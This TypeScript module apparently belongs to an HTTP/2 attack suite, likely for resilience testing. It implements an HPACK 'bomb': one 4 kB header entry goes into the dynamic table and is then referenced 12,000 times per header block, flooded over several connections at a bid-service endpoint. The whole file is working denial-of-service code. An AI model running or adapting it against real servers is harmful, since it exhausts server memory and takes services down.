import type { Attack } from './attack.ts'
import { flood } from './flood.ts'
import {
  END_HEADERS,
  END_STREAM,
  frame,
  headerBlock,
  hpackString,
  requestHeaders,
  streamId,
} from './raw-http2.ts'

/** Fills the dynamic table, 4,096 bytes with what an entry costs. */
const ENTRY_BYTES = 4_000
/** References of one byte each, in one frame. */
const REFERENCES = 12_000

/** Literal with incremental indexing: from now on entry 62, the first of the dynamic table. */
const entry = Buffer.concat([
  Buffer.from([0x40]),
  hpackString('x-bomb'),
  hpackString('x'.repeat(ENTRY_BYTES)),
])
const references = Buffer.alloc(REFERENCES, 0x80 | 62)
const head = headerBlock(requestHeaders('/bids.v1.BidService/ListItems', 'application/json'))

export const hpackBomb: Attack = {
  name: 'hpack-bomb',
  description:
    'Header blocks of 12 kB that say one 4 kB field 12,000 times, on 4 HTTP/2 connections',
  run: (context) =>
    flood(context, (turn) => {
      const block = Buffer.concat(turn === 0 ? [head, entry, references] : [head, references])
      return frame('headers', END_HEADERS | END_STREAM, streamId(turn), block)
    }),
}
